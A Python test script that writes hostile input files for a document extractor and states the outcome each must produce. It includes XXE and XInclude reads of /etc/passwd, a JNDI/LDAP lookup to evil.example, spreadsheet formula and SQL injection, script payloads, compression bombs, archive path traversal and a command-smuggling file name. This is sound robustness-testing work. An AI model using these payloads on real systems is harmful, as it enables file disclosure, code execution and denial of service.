"""Hostile inputs, made by this script: what each is, what must come of it.

    python tests/hostile/hostile_cases.py FOLDER     writes them all

A case's `outcome` is what becomes of every document in it: "ok" or "empty" (a record of that status), "record" (either),
or the code of its row in issues.jsonl; a list when it holds several documents. Every document has to be done within
`SECONDS`; "record or time_limit" is for the two pages on which the parser itself may take longer on a slow machine.
"""

from __future__ import annotations

import bz2
import gzip
import importlib.util
import io
import json
import lzma
import os
import re
import sqlite3
import sys
import tarfile
import tomllib
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import extractor

if TYPE_CHECKING:
    from collections.abc import Callable

SECONDS = 20
BAIT_CHARS = 60_000
RULE_CHARS = 6_000
# What the cues of linking write for values.
PLACEHOLDERS = {"m": "USD 5 million", "r": "5%", "y": "2025", "p": "2024-2030", "g": "Japan", "c": "Tessaline Inc."}

ARTICLE = (
    "Copper Kettle Market Outlook\n\n"
    "The copper kettle market was valued at USD 31.2 million in 2024 and is expected to reach USD 48.9 million "
    "by 2031, "
    "growing at a CAGR of 6.6% from 2024 to 2031. Demand comes from kitchens in Japan and Germany, and makers such as "
    "Tessaline Kettles GmbH and Orrin Copper Inc. have added shifts to keep up with it.\n"
)
PAGE = (
    f"<!doctype html><html><head><title>Kettles</title></head><body><article><p>{ARTICLE}</p></article></body></html>"
)


def _claims(count: int) -> bytes:
    """So many sizes and rates of one market, no two alike: each rate might lead from each size to each other."""
    lines = (
        f"The copper kettle market was worth USD {100 + number} million in {1950 + number % 60} and should reach "
        f"USD {200 + 3 * number} million by {2015 + number % 60}, a CAGR of {1 + number % 90}.{number % 10}%."
        for number in range(count)
    )
    return "\n\n".join(lines).encode()


@dataclass(frozen=True)
class Case:
    """One hostile input: `data` are the bytes of the file, or a function that makes whatever it is at a path."""

    name: str
    data: bytes | Callable[[Path], None]
    outcome: str | list[str] = "record"


def encodings() -> list[Case]:
    text = ARTICLE
    cases = [
        Case(f"encoding-{name}.txt", text.encode(codec), "ok")
        for name, codec in [
            ("utf8-bom", "utf-8-sig"),
            ("utf16", "utf-16"),
            ("utf16-le", "utf-16-le"),
            ("utf16-be", "utf-16-be"),
            ("utf32", "utf-32"),
        ]
    ]
    return [
        *cases,
        Case("encoding-latin1.txt", ("Caf\xe9 naïve. " + text).encode("latin-1"), "ok"),
        Case("encoding-cp1252.txt", ("“Kettles” cost 5 € – " + text).encode("cp1252"), "ok"),
        Case(
            "encoding-shift-jis.html",
            PAGE.replace("<head>", "<head><meta charset=shift_jis>").replace("Demand", "需要").encode("shift_jis"),
            "ok",
        ),
        Case(
            "encoding-declared-wrong.html",
            PAGE.replace("<head>", "<head><meta charset=ascii>").replace("Demand", "Démand €").encode(),
            "ok",
        ),
        Case(
            "encoding-declared-nonsense.html", PAGE.replace("<head>", "<head><meta charset=klingon-8>").encode(), "ok"
        ),
        Case("encoding-declared-utf7.html", PAGE.replace("<head>", "<head><meta charset=utf-7>").encode(), "ok"),
        Case("encoding-declared-zlib.html", PAGE.replace("<head>", "<head><meta charset=zlib_codec>").encode(), "ok"),
        Case("encoding-mixed.txt", text.encode() + "é€".encode("cp1252") + "é€".encode() + text.encode(), "ok"),
        Case("encoding-two-boms.txt", b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode(), "ok"),
        Case("encoding-bom-in-the-middle.txt", text.encode() + b"\xef\xbb\xbf" + text.encode(), "ok"),
        Case("encoding-overlong.txt", b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf " + text.encode(), "ok"),
        Case("encoding-surrogates.txt", b"\xed\xa0\x80\xed\xb0\x80 " + text.encode(), "ok"),
        Case("encoding-cut-character.txt", text.encode() + "€".encode()[:2], "ok"),
        Case("encoding-beyond-unicode.txt", b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80 " + text.encode(), "ok"),
        Case("encoding-nuls.txt", text.replace(" ", " \0").encode(), "record"),
        Case("encoding-only-nuls.txt", b"\0" * 100_000, "binary"),
        Case("encoding-odd-utf16.txt", text.encode("utf-16") + b"\x41", "ok"),
        Case("encoding-random.txt", bytes((number * 167 + number // 7) % 256 for number in range(60_000)), "binary"),
        Case("encoding-ebcdic.txt", text.encode("cp500"), "record"),
        Case("encoding-noncharacters.txt", ("\ufffe\uffff\U0010ffff" + text).encode(), "ok"),
        Case("encoding-carriage-returns.txt", text.replace("\n", "\r").encode(), "ok"),
        Case("encoding-strange-line-ends.txt", text.replace("\n", "\u2028\u0085\x0b\x0c").encode(), "ok"),
    ]


def unicode_texts() -> list[Case]:
    digits = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
    wide = str.maketrans({code: code + 0xFEE0 for code in range(0x21, 0x7F)})
    texts = {
        "arabic-digits": ARTICLE.translate(digits),
        "fullwidth": ARTICLE.translate(wide),
        "superscripts": ARTICLE.replace("31.2", "31²").replace("6.6%", "⁶½%"),
        "roman-numerals": ARTICLE.replace("2031", "ⅯⅯⅩⅩⅩⅠ"),
        "right-to-left": "\u202e" + ARTICLE + "\u202c" + "سوق الغلايات" * 50,
        "unclosed-embeddings": "\u202b\u2067" * 5_000 + ARTICLE,
        "zero-width": "\u200b".join(ARTICLE),
        "joiners": ARTICLE.replace(" ", "\u200d \u2060"),
        "combining": "".join(sign + "\u0301" * 8 for sign in ARTICLE),
        "zalgo": "K" + "\u0315" * 50_000 + ARTICLE,
        "soft-hyphens": ARTICLE.replace("e", "e\xad"),
        "emoji-families": "👩‍👩‍👧‍👦" * 5_000 + ARTICLE,
        "mathematical": ARTICLE.replace("market", "𝓶𝓪𝓻𝓴𝓮𝓽"),
        "variation-selectors": "\ufe0f" * 20_000 + ARTICLE,
        "tags": "\U000e0041" * 10_000 + ARTICLE,
        "one-ligature": "ﷺ" * 20_000,
        "dotted-i": "İ" * 20_000 + ARTICLE,
        "sharp-s": "ẞß" * 20_000 + ARTICLE,
    }
    return [Case(f"unicode-{name}.txt", text.encode(), "record") for name, text in texts.items()]


def pages() -> list[Case]:
    article = f"<p>{ARTICLE}</p>"
    pages = {
        "deep-div": "<div>" * 100_000 + article,
        "deep-table": "<table><tr><td>" * 20_000 + article,
        "deep-list": "<ul><li>" * 30_000 + article,
        "deep-inline": "<b><i>" * 40_000 + article,
        "deep-blockquote": "<blockquote>" * 50_000 + article + "</blockquote>" * 50_000,
        "deep-font-reopened": "<font>" * 3_000 + "<p>x" * 300 + article,
        "misnested": "<b><p><i></b></p></i>" * 5_000 + article,
        "million-attributes": "<div " + " ".join(f"a{number}=1" for number in range(1_000_000)) + ">" + article,
        "long-attribute": f"<div class='{'x ' * 1_000_000}'>" + article,
        "many-classes": "".join(f"<p class='c{number}'>x</p>" for number in range(30_000)) + article,
        "unclosed-script": article + "<script>var a = '" + "x" * 200_000,
        "unclosed-style": article + "<style>p { " + "y" * 200_000,
        "unclosed-comment": article + "<!-- " + "z" * 200_000,
        "unclosed-cdata": article + "<![CDATA[" + "z" * 200_000,
        "unclosed-attribute": article + '<a href="' + "u" * 200_000,
        "unclosed-title": "<title>" + "t" * 100_000 + article,
        "unclosed-textarea": article + "<textarea>" + "t" * 100_000,
        "nested-comments": "<!--" * 50_000 + "-->" + article,
        "entity-bomb": '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10))
        + "]><x>&k;</x>"
        + article,
        "external-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' + article,
        "xinclude": '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></x>'
        + article,
        "numeric-entities": "&#x41;" * 100_000 + article,
        "bad-entities": "&#xFFFFFFFFFF; &#0; &#xD800; &nosuch; &amp" * 5_000 + article,
        "open-brackets": "<" * 100_000 + article,
        "close-brackets": ">" * 100_000 + article,
        "open-tags": "<a" * 50_000 + article,
        "empty-tags": "<p></p>" * 50_000 + article,
        "many-links": "<a href=x>kettle</a> " * 30_000 + article,
        "many-tables": "<table><tr><td>USD 1 million</table>" * 3_000 + article,
        "wide-table": "<table><tr>" + "<td>1" * 50_000 + "</table>" + article,
        "huge-colspan": '<table><tr><td colspan="2147483647" rowspan="2147483647">x</table>' + article,
        "json-ld-deep": '<script type="application/ld+json">' + "[" * 100_000 + "</script>" + article,
        "json-ld-broken": '<script type="application/ld+json">{"headline": "Kettles", </script>' + article,
        "json-ld-wrong-types": '<script type="application/ld+json">{"@type": 7, "headline": {"a": [1]}, "datePublished": [null], '
        '"author": 3.5}</script>' + article,
        "json-ld-recursive-graph": '<script type="application/ld+json">{"@graph": ['
        + '{"@graph": [' * 500
        + "]}" * 500
        + "]}</script>"
        + article,
        "base-and-refresh": '<base href="javascript:alert(1)"><meta http-equiv=refresh content="0;url=file:///etc/passwd">'
        + article,
        "frames": "<frameset>" + "<frame src=x>" * 5_000,
        "svg-and-math": "<svg>" * 5_000 + "<math>" * 5_000 + article,
        "templates": "<template>" * 10_000 + article,
        "nul-in-tags": "<di\0v><p\0>" + article,
        "two-bodies": "<body>" * 1_000 + article + "</body>" * 1_000 + "<html>" * 1_000,
        "plaintext": article + "<plaintext>" + "<p>" * 50_000,
        "conditional-comments": "<!--[if IE]>" * 20_000 + article,
        "xml-declaration": '<?xml version="1.0" encoding="utf-16"?>' + article,
        "processing-instructions": "<?php echo 1 " * 20_000 + article,
    }
    slow = {"million-attributes", "conditional-comments"}
    return [
        Case(f"page-{name}.html", f"<html><body>{body}".encode(), "record or time_limit" if name in slow else "record")
        for name, body in pages.items()
    ]


def bait() -> list[Case]:
    atoms = {
        "dollars": "$", "digits": "9", "commas": ",", "dots": ".", "spaces": " ", "tabs": "\t", "newlines": "\n", "capitals": "A", "hyphens": "-",
        "dashes": "–", "percent-signs": "%", "brackets": "(", "closing-brackets": ")", "quotes": '"', "apostrophes": "'", "slashes": "/",
        "pipes": "|", "bullets": "• ", "colons": ":", "ampersands": "&", "equals": "=", "underscores": "_", "ats": "@", "euros": "€ ",
        "dollar-digit": "$1", "digit-comma": "1,", "digit-groups": "1,000,", "digit-dots": "1.", "digit-spaces": "1 ", "years": "2025 ",
        "years-joined": "2025-", "year-list": "2025, ", "ranges": "2024 to 2025 to ", "percents": "5% ", "percent-ranges": "5%-", "money": "USD 5 million ",
        "money-ranges": "USD 5 to ", "codes": "USD ", "codes-joined": "USD", "magnitudes": "million ", "number-words": "two hundred and ",
        "inc": "Inc. ", "co-ltd": "Co., Ltd., ", "co": "Co., ", "capital-words": "Kettle ", "initials": "A. B. ", "name-list": "Tessaline Inc., ",
        "name-and": "Tessaline and ", "ampersand-names": "Tess & ", "of-the": "of the ", "regions": "Japan, ", "region-and": "Japan and ",
        "market": "Market ", "market-of": "Market of ", "cagr": "CAGR of ", "cagr-from": "CAGR of 5% from 2024 to ", "reach": "to reach USD ",
        "by": "by 2030 by ", "tickers": "(NYSE: ", "urls": "http://a.", "www": "www.", "emails": "a@b.", "phones": "+1 555 ", "dates": "12/12/",
        "months": "May 5, ", "key-players": "Key players: ", "list-items": "- a\n", "table-rows": "a | b | ", "headings": "Scope\n\n", "rest-of": "Rest of ",
        "respectively": "respectively, ", "hundred-letters": "x" * 100 + " ", "mixed": "$1,A.%-(", "read-more": "Read more ", "copyright": "© 2025 ",
    }  # fmt: skip
    cases = [
        Case(f"bait-{name}.txt", (atom * (BAIT_CHARS // len(atom))).encode(), "record") for name, atom in atoms.items()
    ]
    cases += [
        Case(
            f"bait-then-article-{name}.txt",
            (atoms[name] * (BAIT_CHARS // len(atoms[name])) + "\n\n" + ARTICLE).encode(),
            "record",
        )
        for name in ("dollars", "digits", "spaces", "capital-words", "co-ltd", "quotes")
    ]
    return cases


def rule_bait() -> list[Case]:
    """For every rule of every rules file, what it looks for, over and over on one line."""
    return [
        Case(
            f"rule-{place.name}-{re.sub(r'[^a-z0-9_.]', '-', rule)}.txt",
            ((text * (RULE_CHARS // len(text) + 1))[:RULE_CHARS]).encode(),
            "record",
        )
        for place in (Path(extractor.__file__).parent / stage for stage in ("annotating", "linking", "cleaning"))
        for rule, text in rules_below(place)
    ]


def rules_below(folder: Path) -> list[tuple[str, str]]:
    """The ids of all rules in the files of a folder, each with its examples as one text."""
    found: dict[str, str] = {}
    for path in sorted(folder.rglob("*.toml")):
        for kind, entries in tomllib.loads(path.read_text("utf-8")).items():
            for entry in entries if isinstance(entries, list) else ():
                examples = [hit["text"] if isinstance(hit, dict) else hit for hit in entry.get("hits", ())]
                if examples:
                    text = re.sub(r"<([mrypgc])>", lambda sign: PLACEHOLDERS[sign[1]], " ".join(examples))
                    found[f"{kind}.{entry['id']}"] = text.replace("[", "").replace("]", "") + " "
    return list(found.items())


def payloads() -> list[Case]:
    texts = {
        "script-in-title": "<html><head><title><script>alert(1)</script></title></head><body><p>" + ARTICLE + "</p></body></html>",
        "script-in-name": ARTICLE.replace("Tessaline Kettles GmbH", "<script>alert(1)</script> GmbH"),
        "formula-in-name": ARTICLE.replace("Tessaline", "=cmd|' /C calc'!A0"),
        "formula-title": "=HYPERLINK(\"http://evil.example\")\n\n" + ARTICLE,
        "plus-title": "+1+1+cmd|' /C calc'!A0\n\n" + ARTICLE,
        "at-title": "@SUM(1+1)\n\n" + ARTICLE,
        "terminal-escapes": ARTICLE.replace("kettle", "\x1b[2J\x1b]0;owned\x07kettle"),
        "terminal-c1": ARTICLE.replace("kettle", "\x9b2Jkettle"),
        "backspaces": ARTICLE.replace("31.2", "31.2\b\b\b\b99.9"),
        "markup-of-rich": ARTICLE.replace("kettle", "[bold red]kettle[/nonsense]"),
        "format-strings": ARTICLE.replace("kettle", "%s%n{0}{kettle!r}${jndi:ldap://evil.example/a}"),
        "sql": ARTICLE.replace("Tessaline", "Robert'); DROP TABLE documents;--"),
        "json-breakers": ARTICLE.replace("kettle", 'kettle","duplicate_of":null,"cluster":null,"x":"'),
        "csv-breakers": ARTICLE.replace("Tessaline", 'Tess"aline,\r\n"=1+1'),
        "long-line": "kettle " * 3_000_000,
        "long-word": "k" * 5_000_000,
        "many-lines": "k\n" * 500_000,
        "words-that-name-nothing": ARTICLE.replace("copper kettle market", "annual the " * 60 + "zest"),
        "kinds-of-kinds": "The trade counts types. " + "Key " * 60 + "zest are kettles. " + ARTICLE,
        "long-name-with-share": ARTICLE.replace("The copper kettle market", "Sales. " + "k-" * 600 + ", with 5% of it, it"),
    }  # fmt: skip
    suffix = {"script-in-title": "html"}
    return [Case(f"payload-{name}.{suffix.get(name, 'txt')}", text.encode(), "record") for name, text in texts.items()]


def zipped(*members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.filterwarnings("ignore", "Duplicate name")  # one case has a name twice, on purpose
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def tarred(*members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, kind, target in (
            ("link.txt", tarfile.SYMTYPE, "/etc/passwd"),
            ("pipe.txt", tarfile.FIFOTYPE, ""),
            ("dev.txt", tarfile.CHRTYPE, ""),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info)
    return buffer.getvalue()


def nested_zip(depth: int) -> bytes:
    data = zipped(("in.txt", ARTICLE.encode()))
    for _ in range(depth):
        data = zipped(("inner.zip", data))
    return data


def containers() -> list[Case]:
    article = ARTICLE.encode()
    good_zip = zipped(("a.txt", article), ("b.html", PAGE.encode()))
    lying = bytearray(good_zip)
    at = lying.rfind(b"PK\x01\x02")
    lying[at + 24 : at + 28] = b"\xff\xff\xff\x7f"
    encrypted = bytearray(zipped(("a.txt", article)))
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        encrypted[encrypted.find(sign) + place] |= 1
    zeros = b"\0" * 60_000_000
    traversal = zipped(
        ("../../evil.txt", article), ("/etc/evil.txt", article), ("C:\\evil.txt", article), ("a/../../b.txt", article)
    )
    return [
        Case("container-bomb.txt.gz", gzip.compress(zeros), "bomb"),
        Case("container-bomb.txt.bz2", bz2.compress(zeros), "bomb"),
        Case("container-bomb.txt.xz", lzma.compress(zeros), "bomb"),
        Case("container-bomb.zip", zipped(("a.txt", zeros)), "bomb"),
        Case("container-bomb.tar.gz", gzip.compress(tarred(("a.txt", zeros))), ["bomb", "bomb"]),
        Case("container-double-bomb.txt.gz.gz", gzip.compress(gzip.compress(zeros)), "bomb"),
        Case("container-bomb.jsonl.gz", gzip.compress(b'{"text": "' + zeros), "bomb"),
        Case("container-truncated.txt.gz", gzip.compress(os.urandom(5_000))[:3_000], "truncated"),
        Case("container-truncated.txt.bz2", bz2.compress(os.urandom(5_000))[:3_000], "truncated"),
        Case("container-truncated.txt.xz", lzma.compress(os.urandom(5_000))[:3_000], "truncated"),
        Case("container-truncated.zip", good_zip[: len(good_zip) // 2], "broken_container"),
        Case("container-truncated.tar", tarred(("a.txt", article * 20))[:3_000], ["truncated", "truncated"]),
        Case("container-no-gzip.txt.gz", article, "broken_container"),
        Case("container-no-zip.zip", article, "broken_container"),
        Case("container-no-tar.tar", article * 20, "broken_container"),
        Case("container-no-xz.txt.xz", article, "broken_container"),
        Case("container-no-bzip2.txt.bz2", article, "broken_container"),
        Case("container-empty.zip", zipped(), []),
        Case("container-empty.tar", b"\0" * 10_240, []),
        Case("container-empty.txt.gz", gzip.compress(b""), "empty"),
        Case("container-no-bytes.txt.gz", b"", "empty"),
        Case("container-no-bytes.zip", b"", "broken_container"),
        Case("container-lying-sizes.zip", bytes(lying), ["ok", "ok"]),
        Case("container-encrypted.zip", bytes(encrypted), "encrypted"),
        Case("container-wrong-checksum.txt.gz", gzip.compress(article)[:-8] + b"\0" * 8, "broken_container"),
        Case("container-garbage-behind.txt.gz", gzip.compress(article) + b"garbage", "broken_container"),
        Case("container-several-parts.txt.gz", gzip.compress(article[:100]) + gzip.compress(article[100:]), "ok"),
        Case("container-nested.zip", nested_zip(2), "ok"),
        Case("container-nested-too-deep.zip", nested_zip(6), "nested_too_deep"),
        Case("container-traversal.zip", traversal, ["ok"] * 4),
        Case("container-traversal.tar", tarred(("../../evil.txt", article), ("/etc/evil.txt", article)), ["ok"] * 2),
        Case(
            "container-odd-names.zip",
            zipped(("\x1b[31m.txt", article), ("a\nb.txt", article), ("n" * 5_000 + ".txt", article)),
            ["ok"] * 3,
        ),
        Case("container-same-names.zip", zipped(("a.txt", article), ("a.txt", article)), ["ok"] * 2),
        Case(
            "container-hidden-members.zip",
            zipped((".hidden.txt", article), ("__MACOSX/a.txt", article), ("logo.png", b"x")),
            [],
        ),
        Case(
            "container-many-members.zip",
            zipped(*((f"{number}.txt", b"") for number in range(2_000))),
            ["empty"] * 2_000,
        ),
    ]


def rows() -> list[Case]:
    good = json.dumps({"text": ARTICLE})
    lines = {
        "broken": ('{"text": "a', "bad_json"),
        "not-json": ("kettle", "bad_json"),
        "array": ("[1, 2]", "bad_json"),
        "number": ("17", "bad_json"),
        "null": ("null", "bad_json"),
        "deep": ("[" * 100_000, "bad_json"),
        "deep-object": ('{"text": ' * 50_000, "bad_json"),
        "duplicate-keys": ('{"text": "first", "text": ' + json.dumps(ARTICLE) + "}", "ok"),
        "nan": ('{"score": NaN, "x": -Infinity, "text": ' + json.dumps(ARTICLE) + "}", "ok"),
        "huge-integer": ('{"n": ' + "9" * 100_000 + ', "text": ' + json.dumps(ARTICLE) + "}", "ok"),
        "huge-exponent": ('{"n": 1e999999999, "text": ' + json.dumps(ARTICLE) + "}", "ok"),
        "lone-surrogate": ('{"text": "\\ud800 ' + json.dumps(ARTICLE)[1:] + "}", "ok"),
        "escaped-nul": ('{"text": "\\u0000 ' + json.dumps(ARTICLE)[1:] + "}", "ok"),
        "text-null": ('{"text": null}', "no_text"),
        "text-number": ('{"text": 5}', "no_text"),
        "text-object": ('{"text": {"a": 1}}', "no_text"),
        "text-empty": ('{"text": ""}', "empty"),
        "no-text": ('{"id": 5}', "no_text_field"),
        "empty-object": ("{}", "no_text_field"),
        "odd-url": ('{"url": {"a": 1}, "date": [], "title": 7, "text": ' + json.dumps(ARTICLE) + "}", "ok"),
        "script-url": ('{"url": "javascript:alert(1)", "text": ' + json.dumps(ARTICLE) + "}", "ok"),
        "million-keys": (
            "{" + ", ".join(f'"k{number}": 1' for number in range(200_000)) + ', "text": ' + json.dumps(ARTICLE) + "}",
            "ok",
        ),
        "string": (json.dumps(ARTICLE), "ok"),
    }
    cases = [
        Case(f"row-{name}.jsonl", f"{line}\n{good}\n".encode("utf-8", "surrogatepass"), [outcome, "ok"])
        for name, (line, outcome) in lines.items()
    ]
    head = "id,text,url\n"
    quoted = '"' + ARTICLE.replace('"', '""') + '"'
    tables = {
        "ragged": (f"{head}1,{quoted},u,v,w\n2\n3,{quoted}\n", ["ok", "no_text", "ok"]),
        "unclosed-quote": (f'{head}1,{quoted},u\n2,"never closed\n' + "x" * 5_000, ["ok", "record"]),
        "nuls": (f"{head}1,{quoted},\0\0\n", ["ok"]),
        "only-head": (head, []),
        "no-head": ("\n\n\n", "bad_csv"),
        "no-text-column": ("a,b\n1,2\n", "no_text_field"),
        "same-names": (f"text,text\n,{quoted}\n", ["record"]),
        "blank-lines": (f"{head}\n\n1,{quoted},u\n\n", ["ok"]),
        "semicolons": (f"id;text\n1;{quoted}\n", ["ok"]),
        "formula-head": (f"=1+1,text\n1,{quoted}\n", ["ok"]),
        "bom": (f"\ufeff{head}1,{quoted},u\n", ["ok"]),
        "carriage-returns": (f"{head}1,{quoted},u\n".replace("\n", "\r\n"), ["ok"]),
        "lone-quote": (f'{head}1,a"b"c {ARTICLE.splitlines()[2].replace(",", "")},u\n', ["ok"]),
    }
    cases += [Case(f"row-{name}.csv", text.encode(), outcome) for name, (text, outcome) in tables.items()]
    cases.append(Case("row-empty.csv", b"", "bad_csv"))
    cases.append(Case("row-empty.jsonl", b"", []))
    cases.append(Case("row-binary.jsonl", bytes(range(256)) * 20, "record"))
    cases.append(Case("row-latin1.jsonl", '{"text": "Café"}\n'.encode("latin-1"), "bad_json"))
    cases.append(Case("row-no-database.sqlite", b"SQLite format 3\0" + b"\xff" * 5_000, "broken_container"))
    cases.append(Case("row-database.sqlite", _database, ["ok", "no_text", "ok"]))
    cases.append(Case("row-database-without-text.sqlite", _other_database, "no_text_field"))
    return cases


def _database(path: Path) -> None:
    with sqlite3.connect(path) as database:
        database.execute('CREATE TABLE "odd ""name" (text, url)')
        database.executemany(
            'INSERT INTO "odd ""name" VALUES (?, ?)', [(ARTICLE, "u"), (None, "v"), (ARTICLE.encode(), 7)]
        )
    database.close()


def _other_database(path: Path) -> None:
    with sqlite3.connect(path) as database:
        database.execute("CREATE TABLE numbers (n INTEGER)")
    database.close()


def libraries() -> list[Case]:
    """Formats that need an extra, where it is installed."""
    return [
        *(parquets() if _has("pyarrow") else ()),
        *(warcs() if _has("warcio") else ()),
        *(zstds() if _has("zstandard") else ()),
    ]


def _has(module: str) -> bool:
    return importlib.util.find_spec(module) is not None


def parquets() -> list[Case]:
    import pyarrow as pa
    import pyarrow.parquet as pq

    def written(table: pa.Table) -> bytes:
        buffer = io.BytesIO()
        pq.write_table(table, buffer)
        return buffer.getvalue()

    good = written(pa.table({"text": [ARTICLE, ARTICLE]}))
    return [
        Case("parquet-no-text-column.parquet", written(pa.table({"id": [1, 2]})), "no_text_field"),
        Case("parquet-text-of-numbers.parquet", written(pa.table({"text": [1, 2]})), ["no_text"] * 2),
        Case("parquet-text-of-lists.parquet", written(pa.table({"text": [[ARTICLE], []]})), ["no_text"] * 2),
        Case(
            "parquet-text-of-bytes.parquet",
            written(pa.table({"text": [ARTICLE.encode(), b"\xff\xfe"]})),
            ["ok", "binary"],
        ),
        Case(
            "parquet-nulls.parquet",
            written(pa.table({"text": pa.array([None, ARTICLE], pa.string())})),
            ["no_text", "ok"],
        ),
        Case("parquet-nested.parquet", written(pa.table({"doc": [{"text": ARTICLE}]})), "no_text_field"),
        Case("parquet-no-rows.parquet", written(pa.table({"text": pa.array([], pa.string())})), []),
        Case("parquet-formula-names.parquet", written(pa.table({"=1+1": [1], "text": [ARTICLE]})), "ok"),
        Case("parquet-truncated.parquet", good[: len(good) // 2], "broken_container"),
        Case("parquet-footer-only.parquet", b"PAR1" + good[-8:], "broken_container"),
        Case("parquet-random.parquet", b"PAR1" + bytes(range(256)) * 20 + b"PAR1", "broken_container"),
        Case("parquet-empty.parquet", b"", "broken_container"),
        Case("parquet-text.parquet", ARTICLE.encode(), "broken_container"),
    ]


def warcs() -> list[Case]:
    def response(
        body: bytes, kind: str = "text/html", length: int | None = None, url: str = "http://kettle.example/"
    ) -> bytes:
        http = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\n\r\n".encode() + body
        head = f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {url}\r\nWARC-Date: 2025-01-01T00:00:00Z\r\n"
        head += "WARC-Record-ID: <urn:uuid:1>\r\nContent-Type: application/http; msgtype=response\r\n"
        return f"{head}Content-Length: {len(http) if length is None else length}\r\n\r\n".encode() + http + b"\r\n\r\n"

    page = PAGE.encode()
    return [
        Case("warc-good.warc", response(page) + response(page), ["ok", "ok"]),
        Case("warc-picture.warc", response(b"\xff\xd8\xff", "image/jpeg"), []),
        Case("warc-script-url.warc", response(page, url="javascript:alert(1)"), []),
        Case("warc-length-too-long.warc", response(page, length=10_000_000), "record"),
        Case("warc-garbage.warc", b"WARC/1.0\r\n" + b"\xff" * 5_000, []),
        Case("warc-no-warc.warc", ARTICLE.encode(), "broken_container"),
        Case("warc-empty.warc", b"", []),
    ]


def zstds() -> list[Case]:
    import zstandard

    packed = zstandard.ZstdCompressor().compress
    return [
        Case("zstd-good.txt.zst", packed(ARTICLE.encode()), "ok"),
        Case("zstd-bomb.txt.zst", packed(b"\0" * 60_000_000), "bomb"),
        Case("zstd-truncated.txt.zst", packed(os.urandom(5_000))[:3_000], "truncated"),
        Case("zstd-no-zstd.txt.zst", ARTICLE.encode(), "broken_container"),
    ]


def _unreadable(path: Path) -> None:
    path.write_text(ARTICLE)
    path.chmod(0)


def _page_folder(path: Path) -> None:
    path.mkdir()
    (path / "a.txt").write_text(ARTICLE)


def _looping_folder(path: Path) -> None:
    _page_folder(path)
    (path / "again").symlink_to(path)
    (path / "up").symlink_to("..")


def files() -> list[Case]:
    article = ARTICLE.encode()
    readable = os.access("/", os.W_OK) and hasattr(os, "geteuid") and os.geteuid() == 0
    return [
        Case("file-empty.txt", b"", "empty"),
        Case("file-blank.txt", b" \n\t\n", "empty"),
        Case("file-fifo.txt", lambda path: os.mkfifo(path), "not_a_file"),
        Case("file-link-to-itself.txt", lambda path: path.symlink_to(path.name), []),
        Case("file-link-to-nothing.txt", lambda path: path.symlink_to("nowhere"), "broken_link"),
        Case("file-link-to-device.txt", lambda path: path.symlink_to("/dev/zero"), "not_a_file"),
        Case("file-unreadable.txt", _unreadable, "ok" if readable else "unreadable"),
        Case("folder.html", _page_folder, ["ok"]),
        Case("folder-that-loops", _looping_folder, ["ok"]),
        Case(".hidden.txt", article, []),
        Case("file-a\nnewline.txt", article, "ok"),
        Case("file-\x1b[31mescape.txt", article, "ok"),
        Case("file-" + "n" * 240 + ".txt", article, "ok"),
        Case(os.fsdecode(b"file-\xff\xfe.txt"), article, "ok"),
        Case("file- spaces $(touch x) `y` ;.txt", article, "ok"),
        Case("-rf.txt", article, "ok"),
        Case("file-no-suffix", article, "ok"),
        Case("file-UPPER.HTML", PAGE.encode(), "ok"),
        Case("file-of-another-kind.png", b"\x89PNG\r\n", []),
        Case("file-page-in.txt", PAGE.encode(), "ok"),
        Case("file-text-in.html", article, "ok"),
        Case("file-picture.txt", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "binary"),
        Case("file-pdf.txt", b"%PDF-1.7\n" + bytes(range(256)) * 40, "binary"),
        Case("file-too-large.txt", lambda path: _sparse(path, 60_000_000), "too_large"),
        Case("file-of-claims.txt", _claims(1_000), "record"),
        Case("file-20-megabytes.txt", b"kettle " * 3_000_000, "record"),
    ]


def _sparse(path: Path, size: int) -> None:
    with path.open("wb") as file:
        file.truncate(size)


def all_cases() -> list[Case]:
    """Every case."""
    return [
        *encodings(),
        *unicode_texts(),
        *pages(),
        *bait(),
        *rule_bait(),
        *payloads(),
        *containers(),
        *rows(),
        *libraries(),
        *files(),
    ]


def write(folder: Path) -> list[Case]:
    """Writes all cases into a folder."""
    folder.mkdir(parents=True, exist_ok=True)
    cases = all_cases()
    for case in cases:
        path = folder / case.name
        if callable(case.data):
            case.data(path)
        else:
            path.write_bytes(case.data)
    return cases


if __name__ == "__main__":
    write(Path(sys.argv[1]))
